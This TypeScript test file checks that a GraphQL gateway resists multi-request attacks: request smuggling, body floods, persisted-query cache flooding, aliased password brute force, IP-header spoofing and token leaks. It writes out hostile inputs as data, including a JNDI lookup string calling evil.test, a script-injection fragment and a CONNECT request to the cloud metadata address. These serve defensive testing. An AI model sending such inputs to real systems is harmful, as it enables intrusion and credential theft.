import { createHash } from 'node:crypto';
import { expect, vi } from 'vitest';
import { bodiless, exchange, parseAnswers, post, rawConnection } from '../../support/http/raw-http.ts';
import { LONG_WAIT } from '../../support/processes/long-wait.ts';
import { type Attack, scenario } from './attack.ts';
import { asked, get, HELLO, head, json, lengthOf, PREFLIGHTED, padded, persisted } from './http.ts';
import { MAX_BODY_BYTES, type Rig } from './rig.ts';

const answerTo = async ({ port }: Rig, bytes: string) => {
  const { answer } = await exchange(port, bytes);
  return { status: answer?.status, headers: answer?.headers ?? {}, body: JSON.parse(answer?.body ?? 'null') };
};

const codesIn = ({ body }: { readonly body: { readonly errors?: readonly { extensions: { code: string } }[] } }) =>
  (body.errors ?? []).map(({ extensions }) => extensions.code);

const hashOf = (query: string): string => createHash('sha256').update(query).digest('hex');
const byHash = (query: string): string => persisted({ version: 1, sha256Hash: hashOf(query) });
const withHash = (query: string): string => persisted({ version: 1, sha256Hash: hashOf(query) }, query);

/** A document over a limit must not be stored as a persisted query. */
export const neverKept = (title: string, query: string, code: string): Attack =>
  scenario(50, `${title} is not stored as a persisted query`, async (rig) => {
    const refused = await answerTo(rig, withHash(query));
    expect([refused.status, codesIn(refused)]).toEqual([400, [code]]);
    expect(codesIn(await answerTo(rig, byHash(query)))).toEqual(['PERSISTED_QUERY_NOT_FOUND']);
  });

const connections: readonly Attack[] = [
  scenario(14, 'a client that keeps sending a large body still receives its 413', async ({ origin }) => {
    const answer = await fetch(`${origin}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: 'x'.repeat(20_000_000),
    });
    expect(answer.status).toBe(413);
    expect(await answer.json()).toMatchObject({ errors: [{ extensions: { code: 'REQUEST_TOO_LARGE' } }] });
  }),
  scenario(21, 'HEAD is answered 405, without a body', async ({ origin }) => {
    const answer = await fetch(`${origin}/graphql`, { method: 'HEAD' });
    expect(answer.status).toBe(405);
    expect(answer.headers.get('allow')).toBe('GET, POST');
    expect(await answer.text()).toBe('');
  }),
  scenario(23, 'Connection removes no end-to-end header, and hop-by-hop headers are dropped', async (rig) => {
    const mine = { 'x-tenant': 't', te: 'trailers', connection: 'keep-alive, x-tenant' };
    expect((await answerTo(rig, asked('{ plain }', mine))).body).toEqual({ data: { plain: 't' } });
    const [context] = rig.contexts;
    expect(context?.headers).toMatchObject({ 'x-tenant': 't' });
    for (const name of ['te', 'upgrade', 'connection']) expect(context?.headers[name]).toBeUndefined();
  }),
  scenario(26, '1,000 pipelined requests are answered in order, and are the last on their socket', async ({ port }) => {
    const connection = await rawConnection(port);
    const numbers = Array.from({ length: 1_000 }, (_, n) => `${n}`);
    connection.send(numbers.map((n) => asked(`{ echo(text: "${n}") }`)).join(''));
    await connection.closed();
    const answers = parseAnswers(connection.received());
    expect(answers.map(({ body }) => JSON.parse(body).data.echo)).toEqual(numbers);
    expect(answers.at(-1)?.headers.connection).toBe('close');
  }),
  scenario(
    26,
    'half-closing after pipelining aborts the request in flight, and the next ones do not start',
    async (rig) => {
      const connection = await rawConnection(rig.port);
      connection.send(asked('{ slow }').repeat(20));
      await vi.waitUntil(() => rig.contexts.length === 1 && rig.held.length > 0, LONG_WAIT);
      connection.socket.end();
      await connection.closed();
      await vi.waitUntil(() => rig.contexts.every(({ signal }) => signal.aborted), LONG_WAIT);
      await vi.waitUntil(() => rig.held.every((response) => response.destroyed), LONG_WAIT);
      expect((await exchange(rig.port, post(HELLO))).answer?.status).toBe(200);
      expect(rig.contexts).toHaveLength(2);
    },
  ),
  scenario('next', 'a malformed pipelined request does not affect the answer before it', async (rig) => {
    const connection = await rawConnection(rig.port);
    connection.send(asked('{ slow }'));
    await vi.waitUntil(() => rig.held.length > 0, LONG_WAIT);
    connection.send('nonsense\r\n\r\n');
    const other = await exchange(rig.port, post(HELLO));
    expect(other.answer?.status).toBe(200);
    for (const response of rig.held) response.end('"late"');
    await connection.closed();
    expect(parseAnswers(connection.received())).toMatchObject([{ status: 200, headers: { connection: 'close' } }]);
  }),
  scenario('next', 'the unread body of a rejected request is not parsed as a request', async (rig) => {
    const connection = await rawConnection(rig.port);
    const smuggled = asked('{ plain }');
    connection.send(head(['content-encoding: gzip', lengthOf(smuggled)], smuggled));
    await connection.answers(1);
    // The connection stays open if the body had arrived with the headers.
    connection.send(post(HELLO));
    const [first, ...others] = await connection.answers(2);
    expect(first?.status).toBe(415);
    expect(others.filter(({ status }) => status !== 200)).toEqual([]);
    expect(rig.received).toEqual([]);
    connection.socket.destroy();
  }),
  scenario('next', 'bytes beyond Content-Length are not executed or answered as a request', async (rig) => {
    const connection = await rawConnection(rig.port);
    connection.send(`${post(HELLO)}{"query":"{ plain }"}\r\n\r\n`);
    await connection.closed();
    expect(parseAnswers(connection.received()).filter(({ status }) => status !== 200)).toEqual([]);
    expect(rig.received).toEqual([]);
  }),
  scenario('next', 'a client with Expect: 100-continue receives 100, then the answer', async ({ port }) => {
    const connection = await rawConnection(port);
    connection.send(head(['expect: 100-continue', lengthOf(HELLO)]));
    expect((await connection.answers(1))[0]?.status).toBe(100);
    connection.send(HELLO);
    expect((await connection.answers(2))[1]?.status).toBe(200);
    connection.socket.destroy();
  }),
  scenario('next', 'Expect: 100-continue with a too large body receives 413 immediately', async ({ port }) => {
    const connection = await rawConnection(port);
    connection.send(head(['expect: 100-continue', `content-length: ${MAX_BODY_BYTES + 1}`]));
    await connection.closed();
    expect(parseAnswers(connection.received()).at(-1)?.status).toBe(413);
  }),
  scenario('next', 'CONNECT opens no tunnel', async (rig) => {
    const connection = await rawConnection(rig.port);
    connection.send('CONNECT 169.254.169.254:80 HTTP/1.1\r\nhost: 169.254.169.254:80\r\n\r\n');
    await connection.closed();
    expect(connection.received()).not.toMatch(/^HTTP\/1\.1 2/);
    expect(rig.received).toEqual([]);
  }),
];

const FIVE_WAYS = '{ login(password: "x") }';

const limits: readonly Attack[] = [
  scenario(
    49,
    'an unknown hash is PERSISTED_QUERY_NOT_FOUND with status 200, and known after the query was sent',
    async (rig) => {
      const query = '{ hello again: hello }';
      const unknown = await answerTo(rig, byHash(query));
      expect(unknown.status).toBe(200);
      expect(unknown.body).toMatchObject({
        errors: [{ extensions: { code: 'PERSISTED_QUERY_NOT_FOUND', requestId: unknown.headers['x-request-id'] } }],
      });
      expect((await answerTo(rig, withHash(query))).status).toBe(200);
      expect((await answerTo(rig, byHash(query))).body).toEqual({ data: { hello: 'world', again: 'world' } });
    },
  ),
  scenario(49, 'a wrong hash, version or type of hash is rejected', async (rig) => {
    const sha256Hash = hashOf('{ hello }');
    for (const [wrong, query] of [
      [{ version: 1, sha256Hash: 'a'.repeat(64) }, '{ hello }'],
      [{ version: 1, sha256Hash: sha256Hash.toUpperCase() }, '{ hello }'],
      [{ version: 2, sha256Hash }, '{ hello }'],
      [{ version: '1', sha256Hash }, '{ hello }'],
      [{ version: 1, sha256Hash: { toString: sha256Hash } }, undefined],
      [{ version: 1, sha256Hash: [sha256Hash] }, undefined],
      [{ version: 1 }, undefined],
      [[], '{ hello }'],
    ] as const)
      expect(codesIn(await answerTo(rig, persisted(wrong, query)))).toEqual(['BAD_REQUEST']);
    for (const name of ['__proto__', 'constructor', ''])
      expect(codesIn(await answerTo(rig, persisted({ version: 1, sha256Hash: name })))).toEqual([
        'PERSISTED_QUERY_NOT_FOUND',
      ]);
  }),
  scenario(50, 'a flood of persisted queries is bounded, and evicts none in use', async (rig) => {
    const hot = '{ hot: hello }';
    const cold = (n: number): string => `{ cold: hello } #${n} ${padded(MAX_BODY_BYTES - 2_000).replaceAll('"', '')}`;
    expect((await answerTo(rig, withHash(hot))).status).toBe(200);
    // More than the cache of the rig holds.
    for (let n = 0; n < 50; n += 1) {
      expect((await answerTo(rig, withHash(cold(n)))).status).toBe(200);
      if (n % 10 === 0) expect((await answerTo(rig, byHash(hot))).body).toEqual({ data: { hot: 'world' } });
    }
    expect((await answerTo(rig, byHash(hot))).body).toEqual({ data: { hot: 'world' } });
    expect(codesIn(await answerTo(rig, byHash(cold(0))))).toEqual(['PERSISTED_QUERY_NOT_FOUND']);
  }),
  scenario(51, '20 password attempts in one request execute 5 times, and 100 are rejected as a whole', async (rig) => {
    const guesses = (count: number): string =>
      asked(`{ ${Array.from({ length: count }, (_, n) => `a${n}: login(password: "${n}")`).join(' ')} }`, {
        authorization: 'Bearer brute',
      });
    const answer = await answerTo(rig, guesses(20));
    expect(Object.values(answer.body.data).filter((value) => value === 'wrong')).toHaveLength(5);
    expect(codesIn(answer)).toEqual(Array.from({ length: 15 }, () => 'RATE_LIMITED'));
    expect(codesIn(await answerTo(rig, guesses(100)))).toEqual(['ROOT_FIELD_LIMIT']);
  }),
  scenario(52, 'one limit covers a field by POST, GET, persisted query and alias', async (rig) => {
    const mine = { authorization: 'Bearer ways', ...PREFLIGHTED };
    const persistedQuery = { version: 1, sha256Hash: hashOf(FIVE_WAYS) };
    const ways = [
      json({ query: FIVE_WAYS, extensions: { persistedQuery } }, mine),
      json({ extensions: { persistedQuery } }, mine),
      get({ query: FIVE_WAYS }, mine),
      get({ extensions: JSON.stringify({ persistedQuery }) }, mine),
      asked('query Other { other: login(password: "x") }', mine),
    ];
    for (const way of ways) expect(codesIn(await answerTo(rig, way))).toEqual([]);
    for (const way of ways) expect(codesIn(await answerTo(rig, way))).toEqual(['RATE_LIMITED']);
    const batch = post(`[${HELLO},${HELLO}]`, mine);
    expect(codesIn(await answerTo(rig, batch))).toEqual(['BAD_REQUEST']);
  }),
  scenario(85, 'changing X-Forwarded-For does not change the client', async (rig) => {
    const from = (n: number): string =>
      asked('{ door }', {
        'x-forwarded-for': `203.0.113.${n}`,
        'x-real-ip': `203.0.113.${n}`,
        'true-client-ip': `203.0.113.${n}`,
        forwarded: `for=203.0.113.${n}`,
      });
    for (let n = 0; n < 5; n += 1) expect(codesIn(await answerTo(rig, from(n)))).toEqual([]);
    expect(codesIn(await answerTo(rig, from(5)))).toEqual(['RATE_LIMITED']);
  }),
];

const sharing: readonly Attack[] = [
  scenario(72, 'a redirect is not followed, so no token leaks', async (rig) => {
    const answer = await answerTo(rig, asked('{ away }', { authorization: 'Bearer alice' }));
    expect([answer.body.data, codesIn(answer)]).toEqual([{ away: null }, ['UPSTREAM_BAD_RESPONSE']]);
    expect(rig.received.map(({ url }) => url)).toEqual(['/away']);
    expect(JSON.stringify(answer)).not.toMatch(/169\.254|meta-data/);
  }),
  scenario(79, 'concurrent queries that differ in one forwarded header share no call', async (rig) => {
    const tenants = Array.from({ length: 40 }, (_, n) => `t${n % 4}`);
    const answers = await Promise.all(
      tenants.map((tenant) =>
        answerTo(rig, asked('{ plain }', { 'x-tenant': tenant, 'x-forwarded-host': 'evil.test' })),
      ),
    );
    expect(answers.map(({ body }) => body.data.plain)).toEqual(tenants);
    expect(rig.received.some(({ headers }) => headers['x-forwarded-host'] !== undefined)).toBe(false);
  }),
  ...(
    [
      ['client-1:a.b_c', true],
      ['x'.repeat(128), true],
      ['x'.repeat(129), false],
      ['a b', false],
      ['"><script>', false],
      ['ä', false],
      ['', false],
      ['\u0024{jndi:ldap://evil.test/a}', false],
    ] as const
  ).map(([id, taken]) =>
    scenario('next', `the request id ${JSON.stringify(id)} is ${taken ? 'accepted' : 'replaced'}`, async (rig) => {
      const { headers } = await answerTo(rig, asked('{ plain }', { 'x-request-id': id }));
      expect(headers['x-request-id'] === id).toBe(taken);
      expect(headers['x-request-id']).toMatch(/^[\w.:-]{1,128}$/);
      expect(rig.received[0]?.headers['x-request-id']).toBe(headers['x-request-id']);
    }),
  ),
  scenario('next', 'TRACE does not echo the request', async (rig) => {
    const answer = await answerTo(
      rig,
      bodiless('TRACE', '/graphql', { cookie: 'session=1', authorization: 'Bearer s' }),
    );
    expect(JSON.stringify(answer)).not.toMatch(/session|Bearer/);
  }),
];

/** Attacks with more than one request. */
export const scenarios: readonly Attack[] = [...connections, ...limits, ...sharing];
